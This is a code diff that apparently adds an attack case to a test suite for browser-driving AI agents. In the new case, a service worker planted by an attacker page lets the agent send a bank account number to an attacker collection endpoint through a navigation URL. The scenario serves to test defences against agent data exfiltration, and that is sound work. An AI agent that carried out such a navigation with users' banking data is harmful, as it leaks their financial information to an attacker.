@@ -95,6 +95,24 @@ const intoContextFromBefore = {
   },
 };
 
+/** A service worker that was there before the agent read anything answers where no network rule is asked. */
+const answeredByWorker = {
+  id: 'navigate-answered-by-worker',
+  group: 6,
+  by: ['playwright', 'puppeteer', 'raw-cdp', 'selenium', 'mcp', 'extension-debugger'],
+  before: 'none',
+  async does({ hands, world, memory, filled }) {
+    await hands.goto(urlOf('attacker', '/installing'));
+    await until(async () => (await hands.read()).includes('Ready'), 'the worker', 5_000);
+    await signInToBank(hands, world);
+    await readBalance(hands, memory);
+    await attempt(() => filled.goto(`${COLLECT}?account={account number}`));
+    await hands.wait(1_000);
+    await attempt(() => filled.goto(`${COLLECT}?account={account number}&again`));
+    await hands.wait(1_000);
+  },
+};
+
 const navigationByAgent = {
   id: 'navigate-with-query',
   group: 6,
@@ -617,6 +635,7 @@ export const attacks = [
   ...typedAway,
   intoContextFromBefore,
   navigationByAgent,
+  answeredByWorker,
   ...relays,
   ...inPieces,
   ...byScript,
